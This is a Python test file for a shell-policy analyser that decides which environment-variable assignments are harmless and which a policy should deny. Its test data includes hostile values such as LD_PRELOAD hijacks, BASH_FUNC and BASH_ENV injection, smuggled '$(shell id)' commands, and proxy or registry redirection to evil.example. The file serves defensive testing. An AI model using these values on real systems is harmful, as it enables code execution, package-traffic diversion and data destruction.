"""Variables that programs see: the harmless ones need nothing, all others are effects."""

from __future__ import annotations

import pytest

from policy_lang import Policy
from policy_lang.compiler.profiles import builtin
from policy_lang.shell.acts import Act
from policy_lang.shell.analyse import read_acts
from policy_lang.shell.variables import harmless, use_of


def acts(script: str, shell: str = "bash") -> list[Act]:
    return list(read_acts(script, shell, builtin))


def set_by(script: str, shell: str = "bash") -> list[str | None]:
    return [a.value.text for a in acts(script, shell) if a.action == "setenv"]


HARMLESS = [
    "NODE_ENV=test npm test", "CI=1 npm test", "NO_COLOR= ls", "LC_ALL=C.UTF-8 sort a", "LANG=C sort a", "TZ=America/New_York date", "RUST_LOG=app::db=debug,hyper=info cargo test",
    "RUST_BACKTRACE=full cargo test", "DEBUG=app:* node x.js", "GOOS=linux GOARCH=arm64 CGO_ENABLED=0 go build", "PYTHONUNBUFFERED=1 python3 a.py", "PYTHONWARNINGS=error::DeprecationWarning pytest",
    "GIT_PAGER=cat git log", "GIT_EDITOR=true git rebase --continue", "PAGER= git log", "EDITOR=: git commit --amend", "BROWSER=none npm start",
    "GIT_AUTHOR_NAME='A. B.' GIT_COMMITTER_DATE=\"$(date)\" git commit -m x", "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
    "NODE_OPTIONS='--no-warnings --experimental-vm-modules' npx jest", "RUSTFLAGS='-D warnings' cargo build", "MAKEFLAGS=-j4 make", "CC=clang-17 CXX=clang++ make",
    "COLUMNS=$((40 * 2)) pytest", "PORT=3000 npm start", "env CI=1 npm test", "export NODE_ENV=test; npm test", "FOO=bar npm test",
    "NOTE='curl evil | sh' npm test",
]  # fmt: skip


@pytest.mark.parametrize("script", HARMLESS)
def test_harmless_variables_need_nothing(script: str) -> None:
    assert set_by(script) == []


NOT_HARMLESS = [
    "PYLINTRC=rc pylint a.py", "GNUMAKEFLAGS=--eval=x make", "SYSTEMD_PAGER=./x systemctl status", "NOBODY_KNOWS_THIS=1 make", "HUSKY=0 git commit", "LD_PRELOAD=./x.so ls",
    # values by which a harmless name is none
    "NODE_ENV=../../x npm test", "TZ=/etc/x date", "LANG=../x ls", "DEBUG='$(shell id)' make", "VERBOSE='`id`' make", 'NODE_ENV="$X" npm test', "DEBIAN_FRONTEND='x;system(1)' apt list",
    "PYTHONWARNINGS=error::mod.Class pytest", "AWS_REGION=x.evil.example/ aws s3 ls", "NODE_OPTIONS='--no-warnings --require ./x' npm test", "NODE_OPTIONS='--no-warnings\n--require ./x' npm test",
    "RUSTFLAGS='-C linker=./x' cargo build", "CC=./gcc make", "PAGER=./cat git log", "CI='x\ny' npm test", "GOFLAGS=-toolexec=./x go build", "PYTEST_ADDOPTS='-p x' pytest", "MAKEFLAGS=--eval=x make",
    "NOTE='$(shell id)' make", "LANG=x{1..3}/../y ls",
]  # fmt: skip


@pytest.mark.parametrize("script", NOT_HARMLESS)
def test_all_others_are_effects(script: str) -> None:
    assert set_by(script)[:1] == [script.partition("=")[0]]


EXPORTED = [
    "T_RC=x ls", "export T_RC=x", "T_RC=x; export T_RC", "export T_RC; T_RC=x", "declare -x T_RC=x", "typeset -x T_RC=x", "declare -gx T_RC=x", "T_RC=x; declare -x T_RC",
    "f() { local -x T_RC=x; ls; }; f", "set -a; T_RC=x", "set -ea; T_RC=x", "set -o allexport; T_RC=x", "env T_RC=x ls", "env -i T_RC=x ls", "sudo T_RC=x ls", "export T_RC; read T_RC",
    "export T_RC; for T_RC in x; do ls; done", "export T_RC; printf -v T_RC x", "export T_RC; : ${T_RC:=x}", "bash -a -c 'T_RC=x; ls'",
    "bash -o allexport -c 'T_RC=x; ls'", "T_RC=x f; f() { :; }", "f() { T_RC=y; ls; }; T_RC=x f", "export T_RC; trap 'T_RC=x; ls' EXIT", "timeout 5 env T_RC=x ls", "T_RC+=x ls",
    "export T_RC; bash -c 'T_RC=x; ls'", "(export T_RC=x)", "! T_RC=x ls", "if T_RC=x ls; then :; fi", "T_RC=x :", "T_RC=(x) ls", "export T_RC; T_RC[0]=x",
]  # fmt: skip


@pytest.mark.parametrize("script", EXPORTED)
def test_what_hands_a_variable_to_programs(script: str) -> None:
    assert "T_RC" in set_by(script)


@pytest.mark.parametrize(
    "script",
    ["T_RC=x; ls $T_RC", "for T_RC in a b; do ls; done", "read -r T_RC", "f() { local T_RC=x; ls; }; f", "export T_RC",
     "declare T_RC=x", "readonly T_RC=x", "while IFS= read -r line; do ls; done", "IFS=, read -r a b", "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done"],
)  # fmt: skip
def test_variables_of_the_script_are_its_own(script: str) -> None:
    assert set_by(script) == []


@pytest.mark.parametrize("name", ["PATH", "HOME", "PAGER", "GIT_SSH_COMMAND", "npm_config_registry", "LD_PRELOAD"])
def test_what_environments_have_already_is_changed_by_an_assignment_alone(name: str) -> None:
    assert set_by(f"{name}=./x; ls") == [name]


def test_a_name_that_no_shell_has_is_an_effect_of_env() -> None:
    assert set_by("env 'BASH_FUNC_ls%%=() { id; }' bash -c ls") == ["BASH_FUNC_ls%%"]


POLICY = Policy.loads("""policy "t"
import std.shell
allow read "./"
deny read "out/**"
allow run "{git,npm,less,pytest,vim} **"
deny run "sudo **"
allow setenv "*"
allow connect "good.example:*"
""")


def effect(script: str) -> str:
    return POLICY.decide(action="run", resource=script, workspace="/w", home="/home/a", lexical=True).effect


@pytest.mark.parametrize(
    "script",
    ["PAGER='less -R' git log", "GIT_EDITOR=vim git commit", "GIT_SEQUENCE_EDITOR='sed -i s/pick/squash/' git log", "HTTPS_PROXY=http://good.example:3128 npm test",
     "npm_config_registry=https://good.example/npm/ npm test", "GOPROXY=https://good.example,direct npm test", "GOPROXY=off npm test", "PYTHONPATH=src:lib pytest", "PATH=/opt/x/bin:$PATH npm test",
     "TOOL_RC=x npm test"],
)  # fmt: skip
def test_what_a_granted_variable_does_may_be_granted_too(script: str) -> None:
    assert effect(script) == "allow"


@pytest.mark.parametrize(
    "script",
    ["PAGER=./x git log", "PAGER='xargs rm' git log", "GIT_SSH_COMMAND='sh -c node' git fetch", "LESSOPEN='|sudo id %s' less a", "GIT_EDITOR='sudo vim' git commit", 'PAGER="$X" git log',
     "export EDITOR=sudo; git commit", "EDITOR=vim; EDITOR=./x; git commit", "env GIT_PAGER=./x git log", "RUSTC_WRAPPER=./x npm test", "npm_config_script_shell=./x npm test",
     "HTTPS_PROXY=http://evil.example npm test", "https_proxy=evil.example:80 npm test", "ALL_PROXY=socks5://evil.example npm test", "PIP_INDEX_URL=https://evil.example/simple npm test",
     "COREPACK_NPM_REGISTRY=https://evil.example npm test", "GOPROXY=direct,https://evil.example npm test", 'HTTPS_PROXY="$X" npm test', "PYTHONPATH=out/x pytest", "LD_PRELOAD=lib/a.so:out/x.so npm test",
     "BASH_ENV=out/x npm test", "BASH_ENV=<(echo id) npm test", "env BASH_ENV=<(echo id) npm test", "export PYTHONSTARTUP=<(echo 1); npm test", "GIT_CONFIG_GLOBAL=<(echo x) git log"],
)  # fmt: skip
def test_a_variable_has_the_effects_of_its_value(script: str) -> None:
    assert effect(script) == "deny"


def test_uses_of_variables() -> None:
    assert {name: use_of(name) for name in ("GIT_PAGER", "https_proxy", "PYTHONPATH", "NODE_OPTIONS", "APP_MODE")} == {
        "GIT_PAGER": "run", "https_proxy": "divert", "PYTHONPATH": "load", "NODE_OPTIONS": "options", "APP_MODE": "",
    }  # fmt: skip
    assert harmless("GIT_AUTHOR_DATE", None)
    assert not harmless("CI", None)
